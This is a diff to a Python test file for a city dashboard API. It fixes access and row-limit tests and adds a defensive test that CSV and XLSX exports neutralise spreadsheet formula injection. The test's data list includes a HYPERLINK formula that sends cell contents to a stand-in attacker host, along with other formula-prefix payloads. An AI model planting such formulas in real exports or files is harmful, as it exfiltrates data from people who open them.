@@ -23,7 +23,7 @@ URLS = [
 
 @pytest.mark.parametrize("url", URLS)
 def test_anonymous_is_refused(api, url):
-    assert api.get(url).status_code in (401, 403)
+    assert api.get(url).status_code == 403  # as every anonymous API call (reliability/access.py)
 
 
 def test_aggregate_by_township_exact_metrics(user_api, march_cases):
@@ -168,9 +168,9 @@ def test_export_xlsx(user_api, march_cases):
 
 
 def test_export_over_the_row_limit_names_the_limit(user_api, march_cases, monkeypatch):
-    from dashboard import selectors
+    from dashboard import exports
 
-    monkeypatch.setattr(selectors, "EXPORT_MAX_ROWS", 3)
+    monkeypatch.setattr(exports, "EXPORT_MAX_ROWS", 3)
     r = user_api("city_supervisor").get(f"/api/dashboard/export/?format=csv&{MARCH}")
     assert r.status_code == 400
     body = r.json()
@@ -230,3 +230,31 @@ def test_schema_documents_the_dashboard(api):
         "/api/dashboard/export/",
     ):
         assert path in text
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_export_keeps_formulas_as_text(user_api, db, fmt):
+    """Issue 12.3: a description planted through Open311 never becomes a live formula."""
+    import zipfile
+
+    for i, text in enumerate(FORMULAS):
+        make_case(township="330106001", status="reported", reported=at(10 + i), description=text)
+    r = user_api("city_supervisor").get(f"/api/dashboard/export/?format={fmt}&{MARCH}")
+    assert r.status_code == 200
+    column = None
+    if fmt == "csv":
+        rows = list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode("utf-8-sig"))))
+        column = [row[rows[0].index("问题描述")] for row in rows[1:]]
+        assert sorted(column) == sorted("'" + t for t in FORMULAS)
+    else:
+        sheet = zipfile.ZipFile(io.BytesIO(r.content)).read("xl/worksheets/sheet1.xml")
+        assert b"<f>" not in sheet and b"<f " not in sheet  # no formula cell at all
+        ws = load_workbook(io.BytesIO(r.content)).active
+        header = [c.value for c in ws[1]]
+        cells = [row[header.index("问题描述")] for row in ws.iter_rows(min_row=2)]
+        assert all(c.data_type == "s" for c in cells)
+        # (XML reads a stored CR back as a line feed: still text, never a formula.)
+        assert sorted(c.value for c in cells) == sorted(t.replace("\r", "\n") for t in FORMULAS)
